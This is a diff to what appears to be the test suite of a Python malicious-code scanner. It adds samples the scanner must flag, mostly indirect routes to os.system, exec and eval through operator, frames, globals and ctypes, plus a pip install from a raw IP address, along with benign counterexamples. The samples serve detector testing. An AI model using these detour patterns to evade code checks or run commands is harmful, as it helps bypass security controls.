@@ -25,6 +25,16 @@ def model(body: str, *, head: str = "") -> str:
 
 
 ATTACKS: dict[str, tuple[str, str]] = {
+    # a dangerous function reached by a detour
+    "methodcaller": ("import operator, os\noperator.methodcaller('system', 'id')(os)", "WGH-PY007"),
+    "attrgetter": ("import operator\noperator.attrgetter('system')(__import__('os'))('id')", "WGH-PY007"),
+    "frame-builtins": ("import sys\nsys._getframe().f_builtins['exec']('import os')", "WGH-PY007"),
+    "function-globals": ("(lambda: 0).__globals__['eval']('1')", "WGH-PY007"),
+    "getattribute-of-os": ("import os\nos.__getattribute__('system')('id')", "WGH-PY007"),
+    "globals-set": ("import os\nglobals()['f'] = os.system\nf('id')", "WGH-PY001"),
+    "ctypes-system": ("import ctypes\nctypes.CDLL(None).system(b'id')", "WGH-PY001"),
+    "ctypes-loaded": ("import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'id')", "WGH-PY001"),
+    "pip-from-an-address": ("import os\nos.system('pip install -i http://10.0.0.1:9/ x')", "WGH-PY001"),
     # decoded text that is run
     "exec-base64": (f"import base64\nexec(base64.b64decode('{B64}'))", "WGH-PY002"),
     "exec-base64-from-import": (f"from base64 import b64decode as d\nexec(d(b'{B64}'))", "WGH-PY002"),
@@ -349,6 +359,9 @@ ATTACKS: dict[str, tuple[str, str]] = {
 """Source → the rule that must fire; each must come out malicious."""
 
 LOOKS: dict[str, tuple[str, str]] = {
+    "runpy": ("import runpy\nrunpy.run_path('/opt/x.py')", "WGH-PY021"),
+    "import-hook": ("import sys\nsys.meta_path.insert(0, Finder())", "WGH-PY028"),
+    "computed-function": ("import os\n[getattr(os, n) for n in dir(os)][0]('id')", "WGH-PY021"),
     "popen-in-function": ("import subprocess\ndef f(c):\n    return subprocess.run(c)", "WGH-PY020"),
     "eval-in-function": ("def f(x):\n    return eval(x)", "WGH-PY021"),
     "requests-in-function": ("import requests\ndef f(u):\n    return requests.get(u)", "WGH-PY022"),
@@ -388,6 +401,9 @@ HIDDEN: dict[str, bytes] = {
 """Source under an encoding that hides it: rule WGH-PY012."""
 
 SOUND_PYTHON: dict[str, str] = {
+    "methodcaller": "import operator\nlower = operator.methodcaller('lower')\nx = lower('ABC')\n",
+    "frames": "import sys\nname = sys._getframe(1).f_globals.get('__name__')\n",
+    "advice": "MESSAGE = 'pip install --index-url https://download.pytorch.org/whl/cpu torch'\n",
     "modeling": """
 import math
 import os
